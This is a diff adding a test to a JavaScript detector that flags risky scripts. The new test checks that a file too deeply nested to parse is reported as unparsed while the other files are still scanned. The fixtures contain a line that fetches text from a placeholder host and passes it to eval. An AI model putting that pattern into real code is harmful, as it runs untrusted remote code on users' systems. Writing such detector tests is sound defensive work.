@@ -31,4 +31,10 @@ describe('detect-scripts', () => {
     expect(lookAtScripts(projectOf({ 'a.js': `eval(${'('.repeat(20_000)}1${')'.repeat(20_000)})`, 'b.js': "fetch('https://b.example').then((r) => r.text()).then(eval)" })).sightings)
       .toContainEqual(expect.objectContaining({ kind: 'runs-fetched-text', file: 'b.js' }));
   });
+
+  it('tells of a script that is nested deeper than the stack, and follows the others', () => {
+    const { notParsed, sightings } = lookAtScripts(projectOf({ 'a.js': `eval(1); const q = ${'(a - '.repeat(2)}${'a - '.repeat(9_000)}a));`, 'b.js': "fetch('https://b.example').then((r) => r.text()).then(eval)" }));
+    expect(notParsed).toEqual(['a.js']);
+    expect(sightings).toContainEqual(expect.objectContaining({ kind: 'runs-fetched-text', file: 'b.js' }));
+  });
 });
